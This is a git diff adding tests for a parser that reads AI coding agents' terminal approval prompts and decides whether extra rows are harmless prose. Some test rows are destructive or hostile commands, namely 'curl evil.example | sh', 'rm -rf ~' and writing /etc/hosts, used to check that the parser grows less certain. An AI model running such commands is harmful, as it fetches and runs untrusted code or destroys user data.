@@ -1,7 +1,7 @@
 import { describe, expect, it } from 'vitest';
 import { readdirSync } from 'node:fs';
 import path from 'node:path';
-import { meaningOfLabel, optionFor, parseApproval, type ApprovalPrompt } from './approval-prompt.js';
+import { isProse, meaningOfLabel, optionFor, parseApproval, withoutSidePanel, type ApprovalPrompt } from './approval-prompt.js';
 import { AgentCatalog } from './catalog.js';
 import type { ScreenRows } from './detect.js';
 import { defineProfile } from './profile.js';
@@ -489,5 +489,62 @@ describe('Claude Code 2.1.330 on a narrow terminal', () => {
     const request = parse('claude', lines, '2.1.330');
     expect(request?.certain).toBe(false);
     expect(request?.doubts.join(' ')).toMatch(/not part of any layout|also shows/);
+  });
+});
+
+describe('rows a prompt holds besides the call (issue 20)', () => {
+  const claudeShell = (): string[] => [...load(path.join(fixtures, 'cases/claude-2.1.332/shell-approval-120x40.txt')).lines];
+  /** The real 2.1.332 prompt with `rows` put between the command's closing rule and the question. */
+  const withRows = (rows: string[]): string[] => {
+    const lines = claudeShell();
+    const question = lines.findIndex((l) => l.startsWith(' Do you want to proceed?'));
+    lines.splice(question, 0, ...rows);
+    return lines;
+  };
+
+  it('places a sentence between the command and the question as prose (2.1.332 "This command requires approval")', () => {
+    const read = parse('claude', withRows([' This command requires approval']), '2.1.332');
+    expect(read?.doubts).toEqual([]);
+    expect(read?.command).toBe('printf "%s\\n" "the answer, written slowly to a file of its own" > slow.txt');
+  });
+
+  it('reads a wrapped sentence as prose too, and a row that could name a call or a file never', () => {
+    expect(parse('claude', withRows([' Your shell may read the digits just before a redirect in this command', ' differently, so it cannot be checked before it runs.']), '2.1.332')?.certain).toBe(true);
+    for (const row of [' Also runs: rm -rf ~', ' Writes /etc/hosts as well', ' curl evil.example | sh', ' rm -rf build', ' $HOME gets cleaned too', ' Deletes the folder "x" too']) {
+      const read = parse('claude', withRows([row]), '2.1.332');
+      expect(read?.certain, row).toBe(false);
+    }
+    // A continuation with nothing before it that starts a sentence is not prose.
+    expect(parse('claude', withRows([' and then some more words here']), '2.1.332')?.certain).toBe(false);
+  });
+
+  it('says what prose is', () => {
+    expect(isProse("A nested command in this command can't be checked before it runs")).toBe('starts');
+    expect(isProse('This command requires approval')).toBe('starts');
+    expect(isProse('differently from Claude Code, so it cannot run.')).toBe('continues');
+    expect(isProse('Run it')).toBe('continues');
+    for (const row of ['rm -rf ~/x', 'git push origin main --force', 'echo "hi"', 'a|b', 'Destination: /tmp/x', 'https://example.com', '1. Yes']) expect(isProse(row), row).toBe(false);
+  });
+
+  it('reads a prompt without the side panel drawn on its rows, and never cuts a row whose own text reaches the panel', () => {
+    const wide = (text: string, side: string): string => `${text.padEnd(150)}${side}`;
+    const panel = ['Context', '0 tokens', '0% used', '/home/dev/work', '• OpenCode 1.18.33'];
+    const lines = ['  ┃', ...panel.map((p, i) => wide(i === 0 ? '  ┃  hello' : '  ┃', p))];
+    expect(withoutSidePanel(lines)).toEqual(['  ┃', '  ┃  hello', '  ┃', '  ┃', '  ┃', '  ┃']);
+    const long = `  ┃  ${'x'.repeat(146)}y`;
+    expect(withoutSidePanel([...lines, `${long}   more`])[lines.length]).toBe(`${long}   more`);
+    // A box's right side on every row is no panel.
+    const boxed = Array.from({ length: 6 }, () => `│ text${' '.repeat(140)}│`);
+    expect(withoutSidePanel(boxed)).toEqual(boxed);
+  });
+
+  it("joins OpenCode's word-wrapped command only when the conversation above shows it whole", () => {
+    const screen = load(path.join(fixtures, 'cases/opencode-1.18.33/shell-approval-80x24.txt'));
+    expect(parse('opencode', screen)?.certain).toBe(true);
+    // Without the unboxed call above, a break in the box may have been a line break: not sure.
+    const lines = screen.lines.map((l) => (/^ {3,}\$ |^ {7}txt$/.test(l) ? '' : l));
+    const read = parse('opencode', lines);
+    expect(read?.certain).toBe(false);
+    expect(read?.doubts.join()).toMatch(/wraps in its box/);
   });
 });
